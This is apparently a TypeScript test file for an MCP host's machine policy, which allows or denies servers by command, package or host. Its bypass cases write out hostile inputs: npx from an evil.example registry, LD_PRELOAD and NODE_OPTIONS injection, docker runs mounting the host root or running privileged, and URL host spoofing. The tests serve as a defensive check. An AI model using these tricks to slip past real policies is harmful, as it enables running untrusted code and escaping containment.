import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../../../src/base/json.ts";
import { compileGlob, countAlternatives } from "../../../../src/base/glob.ts";
import {
	machineAlone,
	policiesIn,
	whyNotAdded,
	whyServerNotAdded,
} from "../../../../src/servers/definitions/editorLimits.ts";
import { leaveOut } from "../../../../src/servers/definitions/leftOut.ts";
import { type MachinePolicy, parseMachinePolicy } from "../../../../src/servers/definitions/machinePolicy.ts";
import { policyFileOf, readMachinePolicy } from "../../../../src/servers/definitions/policyFile.ts";
import { parseMachineRules } from "../../../../src/permissions/policy/parseRules.ts";
import { chooseRegistry } from "../../../../src/setup/registry/chooseRegistry.ts";
import { definition, stdioConfig, userOrigin, workspaceOrigin } from "../fixtures.ts";

const file = "/etc/mcp-host/policy.json";

function policyOf(value: unknown): MachinePolicy {
	return parseMachinePolicy(JSON.stringify(value), file);
}

/** A local server by its command line. */
function run(line: string, env: JsonObject = {}): JsonObject {
	const [command = "", ...args] = line.split(" ");
	return { command, args, env };
}

function why(policy: unknown, entry: JsonObject, isOfWorkspace = false): string | undefined {
	return whyServerNotAdded(machineAlone(policyOf(policy)), { name: "files", entry }, isOfWorkspace);
}

function isAllowedBy(matcher: JsonObject, entry: JsonObject): boolean {
	return why({ servers: { allowed: [matcher] } }, entry) === undefined;
}

function isDeniedBy(matcher: JsonObject, entry: JsonObject): boolean {
	return why({ servers: { denied: [matcher] } }, entry) !== undefined;
}

describe("The policy file of a machine (REG-18)", () => {
	it.each<[matcher: JsonObject, entry: JsonObject]>([
		[{ command: "/opt/acme/bin/*" }, run("/opt/acme/bin/files --root /data")],
		[{ command: ["node", "/opt/acme/*.js"] }, run("node /opt/acme/server.js")],
		[{ package: "npm:@acme/*" }, run("npx -y @acme/files /data")],
		[{ package: "npm:@acme/files" }, run("npx @acme/files@1.2.3")],
		[{ package: "npm:@acme/files" }, run("bunx @acme/files@latest")],
		[{ package: "pypi:acme-*" }, run("uvx acme-files==2.0")],
		[{ package: "nuget:Acme.*" }, run("dnx Acme.Files --yes")],
		[{ package: "oci:ghcr.io/acme/*" }, run("docker run -i --rm -e TOKEN -e A=b ghcr.io/acme/files:1 /data")],
		[{ package: "npm:@acme/*" }, run("npx -y @acme/files", { ACME_TOKEN: "${input:token}" })],
		[{ host: "*.acme.example" }, { url: "https://mcp.acme.example:8443/v1" }],
		[{ host: "mcp.acme.example" }, { url: "HTTPS://MCP.ACME.EXAMPLE/${input:tenant}" }],
		[{ host: "[::1]" }, { url: "http://[::1]:3000/" }],
	])("allows by %j: %j", (matcher, entry) => expect(isAllowedBy(matcher, entry)).toBe(true));

	it.each<[matcher: JsonObject, entry: JsonObject]>([
		[{ command: "/opt/acme/bin/*" }, run("./opt/acme/bin/files")],
		[{ command: ["node", "/opt/acme/*.js"] }, run("node /opt/acme/server.js --more")],
		[{ command: "node" }, { url: "https://node/" }],
		[{ package: "npm:@acme/*" }, run("npx -y --registry=https://evil.example @acme/files")],
		[{ package: "npm:@acme/*" }, run("npx --package=@acme/files sh")],
		[{ package: "npm:@acme/*" }, run("npx -p @acme/files -c evil")],
		[{ package: "npm:@acme/*" }, run("./npx -y @acme/files")],
		[{ package: "npm:*" }, run("npx evil/repository")],
		[{ package: "npm:*" }, run("npx github:evil/repository")],
		[{ package: "npm:*" }, run("npx ./here")],
		[{ package: "npm:*" }, run("npx ${input:package}")],
		[{ package: "npm:@acme/*" }, run("npx @acme/files@npm:evil@1.0.0")],
		[{ package: "npm:@acme/*" }, run("npx @acme/files@https://evil.example/x.tgz")],
		[{ package: "npm:@acme/*" }, run("cmd /c npx @acme/files")],
		[{ package: "npm:acme" }, run("uvx acme")],
		[{ package: "npm:acme" }, run("npm exec acme --registry=https://evil.example")],
		[{ package: "pypi:acme" }, run("uvx --from acme evil")],
		[{ package: "pypi:acme" }, run("uvx --with evil acme")],
		[{ package: "oci:acme/files" }, run("docker run -v /:/host acme/files")],
		[{ package: "oci:acme/files" }, run("docker run --entrypoint sh acme/files")],
		[{ package: "npm:@acme/*" }, run("npx -y @acme/files", { NODE_OPTIONS: "--require ./evil.js" })],
		[{ command: "/opt/acme/bin/files" }, run("/opt/acme/bin/files", { LD_PRELOAD: "./evil.so" })],
		[{ host: "*.acme.example" }, { url: "https://acme.example.evil.example/" }],
		[{ host: "mcp.acme.example" }, { url: "https://mcp.acme.example@evil.example/" }],
		[{ host: "*" }, { url: "https://${input:host}/" }],
		[{ host: "*.acme.example" }, { url: "https://evil.example/.acme.example" }],
	])("does not allow by %j: %j", (matcher, entry) => expect(isAllowedBy(matcher, entry)).toBe(false));

	it.each<[matcher: JsonObject, entry: JsonObject]>([
		[{ command: "docker" }, run("/usr/local/bin/docker run x")],
		[{ command: "docker" }, run("DOCKER.exe run x")],
		[{ command: "docker" }, { command: "sh", args: ["-c", "cd /tmp && docker run x"] }],
		[{ command: "docker" }, run("${input:program} run x")],
		[{ command: ["node", "evil.js"] }, run("node EVIL.js")],
		[{ command: ["node", "evil.js"] }, run("node ${input:script}")],
		[{ package: "npm:evil" }, run("npx -y evil@2")],
		[{ package: "npm:evil" }, run("npx -p good -p evil run")],
		[{ package: "npm:evil" }, run("npx --package=Evil run")],
		[{ package: "npm:evil" }, run("cmd /c npx -y evil")],
		[{ package: "npm:evil" }, { command: "bash", args: ["-lc", "exec npx 'evil@1'"] }],
		[{ package: "npm:evil" }, run("npx good@npm:evil")],
		[{ package: "npm:evil" }, run("npx ${env:PACKAGE}")],
		[{ package: "npm:@evil/*" }, run("pnpm dlx @evil/one@1.0.0")],
		[{ package: "pypi:evil-one" }, run("uvx --with evil_one good")],
		[{ package: "pypi:evil" }, run("pipx run evil[extra]==1")],
		[{ package: "oci:evil/image" }, run("podman run -i docker.io/evil/image:1")],
		[{ package: "oci:evil/image" }, run("docker run --privileged evil/image@sha256:00")],
		[{ host: "evil.example" }, { url: "https://EVIL.example.:443/x" }],
		[{ host: "evil.example" }, { url: "https://${input:host}/x" }],
		[{ host: "evil.example" }, { url: "${env:ADDRESS}" }],
	])("denies by %j: %j", (matcher, entry) => expect(isDeniedBy(matcher, entry)).toBe(true));

	it.each<[matcher: JsonObject, entry: JsonObject]>([
		[{ command: "docker" }, run("node docker")],
		[{ package: "npm:evil" }, run("node evil")],
		[{ package: "npm:postgres" }, run("docker run postgres")],
		[{ package: "npm:evil" }, run("npx evil-not")],
		[{ host: "evil.example" }, { url: "https://good.example/evil.example?${input:x}" }],
	])("does not deny by %j: %j", (matcher, entry) => expect(isDeniedBy(matcher, entry)).toBe(false));

	it("names what it decides and its file; a denial comes before the allowed list, and workspaces before both", () => {
		const policy = {
			servers: { allowed: [{ package: "npm:@acme/*" }], denied: [{ package: "npm:@acme/old" }], ofWorkspaces: false },
		};
		const files = run("npx -y @acme/files");
		expect(why(policy, files)).toBeUndefined();
		expect(why(policy, files, true)).toBe(
			`Your organization does not allow servers of workspaces (servers.ofWorkspaces in ${file}).`,
		);
		expect(why(policy, run("npx @acme/old"))).toBe(
			`Your organization does not allow the server “files” (servers.denied in ${file}).`,
		);
		expect(why(policy, run("node x.js"))).toBe(
			`Your organization allows only listed servers, and “files” is not in the list (servers.allowed in ${file}).`,
		);
		expect(why(policy, run("npx @acme/files", { PATH: "." }))).toBe(
			`Your organization allows only listed servers, and “files” sets PATH, which could change what runs (servers.allowed in ${file}).`,
		);
		expect(why({ servers: { allowed: [] } }, files)).toContain("is not in the list");
		expect(why({}, files, true)).toBeUndefined();
	});

	it("leaves servers out before any approval, with the reason at their places", () => {
		const limits = machineAlone(policyOf({ servers: { ofWorkspaces: false } }));
		const left = leaveOut(() => false, limits);
		const own = definition("own", stdioConfig(), userOrigin);
		const theirs = definition("theirs", stdioConfig(), workspaceOrigin);
		expect([own, theirs].filter((one) => left.isLeftOut(one))).toEqual([theirs]);
		expect(left.problems).toMatchObject([{ server: "theirs", path: ["servers", "theirs"], isByPolicy: true }]);
		// The environment of an entry counts as well.
		const listed = leaveOut(() => false, machineAlone(policyOf({ servers: { allowed: [{ command: "node" }] } })));
		const env = definition("env", stdioConfig({ env: { NODE_OPTIONS: "-r ./evil.js" } }));
		expect([own, env].filter((one) => listed.isLeftOut(one))).toEqual([env]);
	});

	it.each([
		["{", `line 1: close brace expected`],
		['{\n\t"servers": {\n\t\t"denied": [}\n', "line 3: "],
		['{\n\t"servrs": {}\n}', "line 2: servrs: it is not a known key"],
		['{ "rules": [], "rules": [] }', '"rules" is given twice'],
		["[]", "the file: it must be an object"],
		['{ "servers": { "allowed": { "command": "x" } } }', "servers.allowed: it must be a list"],
		['{ "servers": { "ofWorkspaces": "no" } }', "servers.ofWorkspaces: it must be true or false"],
		[
			'{ "servers": { "denied": ["evil"] } }',
			'servers.denied.0: it must be an object with "command", "package" or "host"',
		],
		['{ "servers": { "denied": [{}] } }', 'it must have exactly one of "command", "package" and "host"'],
		['{ "servers": { "denied": [{ "name": "x" }] } }', '"name" is not one of "command", "package" and "host"'],
		['{ "servers": { "denied": [{ "package": "evil" }] } }', '"package" must be "npm:"'],
		['{ "servers": { "denied": [{ "command": [] }] } }', '"command" must be a program'],
		['{ "servers": { "denied": [{ "command": ["a", 1] }] } }', '"command" must be a program'],
		['{ "servers": { "denied": [{ "host": "https://evil.example" }] } }', '"host" must be the name of a host'],
		['{ "servers": { "denied": [{ "host": "evil.example:443" }] } }', '"host" must be the name of a host'],
		['{ "registries": ["acme"] }', "registries.0: it must be the address of a registry"],
	])("allows nothing if it is %s, and names the file, the line and the mistake", (text, fault) => {
		const policy = parseMachinePolicy(text, file);
		expect(policy.fault).toContain(fault);
		const message = `Your organization's policy ${file} cannot be read: ${policy.fault}. No server is allowed.`;
		expect(whyNotAdded(machineAlone(policy), true)).toBe(message);
		expect(whyServerNotAdded(machineAlone(policy), { name: "a", entry: run("node") }, false)).toBe(message);
		expect(policiesIn(machineAlone(policy))).toEqual([{ setting: file, value: message }]);
		expect(chooseRegistry(machineAlone(policy))).toEqual({ refusal: message });
		const list = parseMachineRules(policy, { compileGlob, countAlternatives });
		expect(list?.fault).toBe(policy.fault);
	});

	it("may have comments, a byte order mark, and nothing at all", () => {
		expect(parseMachinePolicy('\uFEFF// none\n{ "servers": { "denied": [ ], }, }', file)).toEqual({
			file,
			denied: [],
			isWorkspaceAllowed: true,
			rules: [],
		});
		expect(parseMachineRules(policyOf({}), { compileGlob, countAlternatives })).toBeUndefined();
	});

	it("limits the registries: the user's own if it is listed, otherwise the first, or none", () => {
		const registry = (registries: readonly string[], own: string) =>
			chooseRegistry({
				inspect: (name) => ({ globalValue: name === "mcpHost.registry.url" ? own : undefined }),
				get: (name) => (name === "mcpHost.registry.url" ? own : undefined),
				machine: policyOf({ registries }),
			});
		const two = ["https://a.example/", "https://b.example"];
		expect(registry(two, "https://b.example/v0")).toEqual({ url: "https://b.example" });
		expect(registry(two, "https://c.example")).toMatchObject({ url: "https://a.example", limit: expect.any(String) });
		expect(registry([], "https://c.example")).toEqual({
			refusal: `Your organization allows no registry (registries in ${file}).`,
		});
	});

	it("is listed in parts for the user", () => {
		const parts = policiesIn(
			machineAlone(
				policyOf({
					servers: {
						allowed: [{ package: "npm:@acme/*" }, { command: ["node", "x"] }],
						denied: [{ host: "evil.example" }, { command: "docker" }],
						ofWorkspaces: false,
					},
					registries: [],
				}),
			),
		).map(({ setting, value }) => `${setting}: ${value}`);
		expect(parts).toEqual([
			'Allowed servers: package npm:@acme/*, command ["node","x"]',
			"Denied servers: host evil.example, command docker",
			"Servers of workspaces: not started",
			"Registries: none",
			`Policy file: ${file}`,
		]);
	});

	it("is at the place of each system, and absent only where there is no file", async () => {
		expect(policyFileOf("linux", {})).toBe("/etc/mcp-host/policy.json");
		expect(policyFileOf("darwin", {})).toBe("/Library/Application Support/mcp-host/policy.json");
		expect(policyFileOf("win32", { ProgramData: "D:\\Data" })).toBe("D:\\Data\\mcp-host\\policy.json");
		expect(policyFileOf("win32", { ProgramData: "data" })).toBe("C:\\ProgramData\\mcp-host\\policy.json");
		const folder = await mkdtemp(path.join(tmpdir(), "mcp-host-policy-"));
		try {
			const at = path.join(folder, "policy.json");
			expect(await readMachinePolicy(at)).toBeUndefined();
			expect(await readMachinePolicy(path.join(folder, "none", "policy.json"))).toBeUndefined();
			await writeFile(at, Buffer.from("\uFEFF{}", "utf16le"));
			expect(await readMachinePolicy(at)).toMatchObject({ fault: "it is not UTF-8 text" });
			await writeFile(at, `{ "rules": [${" ".repeat(1_000_000)}] }`);
			expect(await readMachinePolicy(at)).toMatchObject({ fault: "it has more than 1,000,000 bytes" });
			// Windows does not distinguish this from a folder that is not there.
			if (process.platform !== "win32")
				expect(await readMachinePolicy(path.join(at, "policy.json"))).toMatchObject({
					fault: "it cannot be opened (ENOTDIR)",
				});
			await rm(at);
			await mkdir(at);
			expect(await readMachinePolicy(at)).toMatchObject({ fault: "it cannot be opened (EISDIR)" });
		} finally {
			await rm(folder, { recursive: true });
		}
	});
});
